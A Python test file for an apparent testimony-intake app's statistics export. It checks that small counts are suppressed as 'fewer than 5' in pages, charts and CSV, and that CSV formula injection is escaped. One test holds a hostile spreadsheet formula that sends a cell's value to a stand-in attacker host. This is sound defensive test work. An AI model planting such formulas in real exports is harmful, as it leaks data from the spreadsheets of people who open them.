"""A count of 3 never appears as 3: not on the page, not in an SVG chart, not in the CSV."""

from __future__ import annotations

import base64
import csv
import io
import re

from intake.exports import stats_charts
from intake.exports.stats import SMALL, Cell

from ..conftest import unlock
from .stats_helpers import corpus, store

#: In the corpus the worked example's glove factory and the year 2017 are named by
#: exactly 3 testimonies, the camp-factory witness's factory by 4.
SMALL_TEXT = "fewer than 5"


def _svg_texts(svg: str) -> list[str]:
    return [text.strip() for text in re.findall(r"<text[^>]*>([^<]*)</text>", svg)]


def test_small_counts_are_words_on_the_page_charts_and_csv(
    casedb_coordinator, database, settings, monkeypatch
) -> None:
    # Given stored testimonies where some rows count 3 and 4
    keys = unlock(database, settings)
    store(database, keys, corpus())
    # (charts written with text as text, so that the test can read it)
    monkeypatch.setattr(stats_charts, "SVG_FONTTYPE", "none")
    # When the page and the CSV are fetched
    html = casedb_coordinator.get("/stats/").get_data(as_text=True)
    data = casedb_coordinator.get("/stats/statistics.csv").get_data(as_text=True)
    # Then the page shows no cell of 3 or 4, and says "fewer than 5"
    cells = re.findall(r"<td>([^<]*)</td>", html)
    assert "3" not in cells and "4" not in cells
    assert SMALL_TEXT in cells and "7" in cells
    # and no chart writes 3 or 4 anywhere
    charts = re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', html)
    texts = [text for chart in charts for text in _svg_texts(base64.b64decode(chart).decode())]
    assert texts, "the charts were not written with readable text"
    assert "3" not in texts and "4" not in texts
    assert SMALL_TEXT in texts and "7" in texts
    # and the charts' alt texts (what a screen reader says) neither
    alts = re.findall(r'<img class="chart" src="[^"]*" alt="([^"]*)"', html)
    said = [value for alt in alts for value in re.findall(r": ([^:;]+?)(?=;|$)", alt)]
    assert len(alts) == 9 and "7" in said and SMALL_TEXT in said
    assert "3" not in said and "4" not in said
    # and the CSV's count column holds no small number
    rows = list(csv.DictReader(io.StringIO(data.lstrip("\ufeff"))))
    counts = {row["count"] for row in rows}
    assert not counts & {"0", "1", "2", "3", "4"}
    facility = {row["code"]: row["count"] for row in rows if row["table"] == "facility"}
    assert facility["jiafang_industrial_park"] == SMALL_TEXT


def test_a_chart_draws_text_as_outlines_with_no_number_for_a_small_bar() -> None:
    # Given a bar of 3 and a bar of 9, drawn as the app draws them (glyph outlines)
    cells = [Cell(SMALL), Cell.of(9)]
    svg = stats_charts.bar_chart(
        "Title",
        ["ئۈرۈمچى", "乌鲁木齐"],
        cells,
        small_text=SMALL_TEXT,
        withheld_text="x",
        empty_text="-",
    )
    # Then no text is left to a reader's fonts and the bar labels are the table's words
    assert "<text" not in svg and "<svg" in svg
    assert stats_charts.bar_labels(cells, SMALL_TEXT, "x") == [SMALL_TEXT, "9"]
    # and nothing in it points anywhere but inside itself
    assert all(href.startswith("#") for href in re.findall(r'href="([^"]*)"', svg))


def test_a_label_a_spreadsheet_would_run_is_written_as_text_in_the_csv() -> None:
    from intake.exports.stats import count_documents, render_csv, suppress

    from .stats_helpers import PUBLIC_EXAMPLES, example

    # Given counts with facility rows, and a facility whose name (typed by a
    # coordinator in the registry) is a formula that would send a cell away
    stats = suppress(count_documents([example(name) for name in PUBLIC_EXAMPLES]))
    assert stats.tables["facility"]
    hostile = '=HYPERLINK("http://evil.example/?leak="&C2,"Jiafang Industrial Park")'

    def label(vocabulary: str, code: str) -> str:
        return hostile if vocabulary == "facility" else "@SUM(1)" if code == "2019" else code

    # When the CSV is written
    rows = list(csv.reader(io.StringIO(render_csv(stats, label).decode("utf-8-sig"))))
    # Then the names are there as text, and no cell starts as a formula
    labels = [row[2] for row in rows[1:]]
    assert "'" + hostile in labels
    assert all(cell[:1] not in "=+-@\t\r" for row in rows for cell in row if cell)
